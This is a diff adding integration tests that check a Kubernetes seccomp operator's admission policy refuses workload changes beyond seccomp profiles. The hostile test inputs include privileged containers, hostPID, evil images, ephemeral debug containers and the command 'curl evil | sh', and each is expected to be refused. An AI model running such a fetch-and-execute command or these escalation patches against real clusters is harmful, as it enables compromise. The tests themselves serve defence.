@@ -12,7 +12,8 @@ import assert from "node:assert/strict";
 import { readFileSync } from "node:fs";
 import type { KubeConfig } from "@kubernetes/client-node";
 import { parseAllDocuments } from "yaml";
-import { API_VERSION, NODE_STATUS_KIND, PROFILE_KIND } from "../../src/api/names.js";
+import { API_VERSION, FIELD_MANAGER as FIELD_MANAGER_OPERATOR, NODE_STATUS_KIND, PROFILE_KIND, RECORDING_FIELD_MANAGER } from "../../src/api/names.js";
+import { applyBodyFor } from "../../src/controller/workloads/workload-kinds.js";
 import { installFile } from "../../hack/generate-install.js";
 import { installCrds } from "../harness/crds.js";
 import { apiRequest } from "../harness/raw-api.js";
@@ -203,6 +204,8 @@ describe("RBAC and admission policy of the operator's ServiceAccounts", function
         "ServiceAccount",
         "ValidatingAdmissionPolicy",
         "ValidatingAdmissionPolicy",
+        "ValidatingAdmissionPolicy",
+        "ValidatingAdmissionPolicyBinding",
         "ValidatingAdmissionPolicyBinding",
         "ValidatingAdmissionPolicyBinding",
       ],
@@ -415,7 +418,7 @@ describe("RBAC and admission policy of the operator's ServiceAccounts", function
           method: "PATCH",
           path: `/apis/batch/v1/namespaces/${ns}/cronjobs/nightly`,
           contentType: MERGE,
-          body: { metadata: { annotations: { checked: "yes" } } },
+          body: { metadata: { annotations: { "container.seccomp.operator.dev/job": "nightly-job-audit" } } },
         }),
         200,
         "patch a CronJob",
@@ -424,6 +427,91 @@ describe("RBAC and admission policy of the operator's ServiceAccounts", function
         expectStatus(await call(kc, controller, { path: `/apis/${path}` }), 200, `list ${path}`);
         expectStatus(await call(kc, controller, { path: `/apis/${path}?watch=true&timeoutSeconds=1`, statusOnly: true }), 200, `watch ${path}`);
       }
+    });
+
+    it("changes in workloads only the seccomp profiles of containers and its own annotations (admission policy), in kube-system too", async function () {
+      const deployment = `/apis/apps/v1/namespaces/${ns}/deployments/web`;
+      const cronJob = `/apis/batch/v1/namespaces/${ns}/cronjobs/nightly`;
+      const pinned = (name: string) => ({ type: "Localhost", localhostProfile: `operator/${ns}/${name}/${"b".repeat(64)}.json` });
+      const applyAs = (path: string, manager: string, body: unknown) =>
+        call(kc, controller, { method: "PATCH", path: `${path}?fieldManager=${manager}&force=true`, contentType: "application/apply-patch+yaml", body });
+      // Strategic merge: containers merge by name, as kubectl patch sends them.
+      const patch = (path: string, body: unknown) => call(kc, controller, { method: "PATCH", path, contentType: "application/strategic-merge-patch+json", body });
+      const refused = (res: Response, what: string, pattern: RegExp) => {
+        expectStatus(res, 403, what);
+        assert.match(res.body?.message ?? "", pattern, `${what}: ${show(res)}`);
+      };
+      const template = (containers: unknown[], extra: Record<string, unknown> = {}) => ({ spec: { template: { spec: { containers, ...extra } } } });
+
+      // What the controller writes, as it writes it: the body of the workload reconciler and the recording's annotations.
+      const body = applyBodyFor("Deployment", { namespace: ns, name: "web" }, { containers: [{ name: "app", securityContext: { seccompProfile: pinned("web") } }] });
+      expectStatus(await applyAs(deployment, FIELD_MANAGER_OPERATOR, body), 200, "apply the seccomp profile");
+      const annotations = { apiVersion: "apps/v1", kind: "Deployment", metadata: { name: "web", namespace: ns, annotations: { "container.seccomp.operator.dev/app": "rec-app-audit" } } };
+      expectStatus(await applyAs(deployment, RECORDING_FIELD_MANAGER, annotations), 200, "apply a recording's annotation");
+      // Dropping its fields again (an apply without them) is allowed.
+      expectStatus(await applyAs(deployment, FIELD_MANAGER_OPERATOR, applyBodyFor("Deployment", { namespace: ns, name: "web" }, {})), 200, "release the seccomp profile");
+      const cron = applyBodyFor("CronJob", { namespace: ns, name: "nightly" }, { containers: [{ name: "job", securityContext: { seccompProfile: pinned("job") } }] });
+      expectStatus(await applyAs(cronJob, FIELD_MANAGER_OPERATOR, cron), 200, "apply the seccomp profile of a CronJob");
+
+      const inTemplate = /may change nothing of Deployment .* but the seccompProfile/;
+      const inContainers = /may change in the containers of Deployment .* only securityContext\.seccompProfile, not: container app/;
+      refused(await patch(deployment, template([{ name: "app", image: "registry.example/evil:1" }])), "change an image", inContainers);
+      refused(await patch(deployment, template([{ name: "app", securityContext: { privileged: true } }])), "make a container privileged", inContainers);
+      refused(await patch(deployment, template([{ name: "app", securityContext: { allowPrivilegeEscalation: true } }])), "allow privilege escalation", inContainers);
+      refused(await patch(deployment, template([{ name: "app", command: ["/bin/sh", "-c", "curl evil | sh"] }])), "change a command", inContainers);
+      refused(await patch(deployment, template([{ name: "sidecar", image: "registry.example/evil:1" }])), "add a container", inTemplate);
+      refused(await patch(deployment, { spec: { template: { spec: { hostPID: true } } } }), "share the host's PID namespace", inTemplate);
+      refused(await patch(deployment, { spec: { template: { spec: { securityContext: { seccompProfile: { type: "Unconfined" } } } } } }), "set the pod's seccomp profile", inTemplate);
+      refused(await patch(deployment, { spec: { replicas: 5 } }), "scale", inTemplate);
+      refused(await patch(deployment, { spec: { template: { metadata: { labels: { app: "web", extra: "x" } } } } }), "label the pod template", inTemplate);
+      refused(await patch(deployment, { metadata: { annotations: { "example.com/anything": "x" } } }), "a foreign annotation", /only the annotations container\.seccomp\.operator\.dev\/<container>/);
+      refused(await patch(deployment, { metadata: { annotations: { "seccomp.operator.dev/profile": "other" } } }), "ask for a profile itself", /only the annotations container\.seccomp\.operator\.dev/);
+      refused(await patch(deployment, { metadata: { labels: { app: "x" } } }), "a label", /only the annotations/);
+      refused(await patch(deployment, template([{ name: "app", securityContext: { seccompProfile: { type: "Unconfined" } } }])), "an Unconfined profile", /sets only Localhost seccomp profiles under operator\//);
+      refused(await patch(deployment, template([{ name: "app", securityContext: { seccompProfile: { type: "RuntimeDefault" } } }])), "a RuntimeDefault profile", /sets only Localhost seccomp profiles/);
+      refused(await patch(cronJob, { spec: { schedule: "* * * * *" } }), "a CronJob's schedule", /may change nothing of CronJob/);
+      refused(
+        await patch(cronJob, { spec: { jobTemplate: { spec: { template: { spec: { containers: [{ name: "job", image: "registry.example/evil:1" }] } } } } } }),
+        "a CronJob's image",
+        /may change in the containers of CronJob .* not: container job/,
+      );
+
+      // RBAC reaches every namespace; so does the policy.
+      const name = `${ns}-probe`;
+      const system = `/apis/apps/v1/namespaces/kube-system/deployments`;
+      const probe = { apiVersion: "apps/v1", kind: "Deployment", metadata: { name }, spec: { replicas: 0, selector: { matchLabels: { app: name } }, template: { metadata: { labels: { app: name } }, spec: { containers: [{ name: "app", image: "registry.k8s.io/pause:3.10" }] } } } };
+      expectStatus(await admin({ method: "POST", path: system, body: probe }), 201, "a Deployment in kube-system");
+      try {
+        refused(await patch(`${system}/${name}`, template([{ name: "app", image: "registry.example/evil:1" }])), "change an image in kube-system", /may change in the containers of Deployment kube-system\//);
+        const sys = applyBodyFor("Deployment", { namespace: "kube-system", name }, { containers: [{ name: "app", securityContext: { seccompProfile: { type: "Localhost", localhostProfile: `operator/kube-system/x/${"c".repeat(64)}.json` } } }] });
+        expectStatus(await applyAs(`${system}/${name}`, FIELD_MANAGER_OPERATOR, sys), 200, "apply a seccomp profile in kube-system");
+      } finally {
+        await admin({ method: "DELETE", path: `${system}/${name}` });
+      }
+    });
+
+    it("changes nothing in pods, even given the right to (admission policy)", async function () {
+      // A grant the install does not make, to reach the policy behind RBAC.
+      const grant = { apiVersion: "rbac.authorization.k8s.io/v1", kind: "Role", metadata: { name: "pods-for-the-test" }, rules: [{ apiGroups: [""], resources: ["pods", "pods/ephemeralcontainers"], verbs: ["update", "patch"] }] };
+      const binding = { apiVersion: "rbac.authorization.k8s.io/v1", kind: "RoleBinding", metadata: { name: "pods-for-the-test" }, roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "Role", name: "pods-for-the-test" }, subjects: [{ kind: "ServiceAccount", name: "seccomp-operator-controller", namespace: ns }] };
+      expectStatus(await admin({ method: "POST", path: `/apis/rbac.authorization.k8s.io/v1/namespaces/${ns}/roles`, body: grant }), 201, "grant");
+      expectStatus(await admin({ method: "POST", path: `/apis/rbac.authorization.k8s.io/v1/namespaces/${ns}/rolebindings`, body: binding }), 201, "bind");
+      // Pods are admitted once their ServiceAccount exists.
+      expectStatus(await admin({ method: "POST", path: `/api/v1/namespaces/${ns}/serviceaccounts`, body: { apiVersion: "v1", kind: "ServiceAccount", metadata: { name: "default" } } }), [201, 409], "default ServiceAccount");
+      const pod = { apiVersion: "v1", kind: "Pod", metadata: { name: "web" }, spec: { containers: [{ name: "app", image: "registry.example/web:1" }] } };
+      expectStatus(await admin({ method: "POST", path: `/api/v1/namespaces/${ns}/pods`, body: pod }), 201, "a pod");
+      const path = `/api/v1/namespaces/${ns}/pods/web`;
+      const image = { spec: { containers: [{ name: "app", image: "registry.example/evil:1" }] } };
+      await eventually(async () => {
+        const res = await call(kc, controller, { method: "PATCH", path, contentType: "application/strategic-merge-patch+json", body: image });
+        expectStatus(res, 403, "change a pod's image");
+        assert.match(res.body?.message ?? "", /may change in the containers of Pod .* not: container app/, show(res));
+      });
+      const debug = { spec: { ephemeralContainers: [{ name: "debug", image: "registry.example/evil:1" }] } };
+      const res = await call(kc, controller, { method: "PATCH", path: `${path}/ephemeralcontainers`, contentType: "application/strategic-merge-patch+json", body: debug });
+      expectStatus(res, 403, "add an ephemeral container");
+      assert.match(res.body?.message ?? "", /may change nothing of Pod .* ephemeral containers/, show(res));
+      await admin({ method: "DELETE", path: `/apis/rbac.authorization.k8s.io/v1/namespaces/${ns}/rolebindings/pods-for-the-test` });
     });
 
     it("updates profile status and manages its finalizer", async function () {
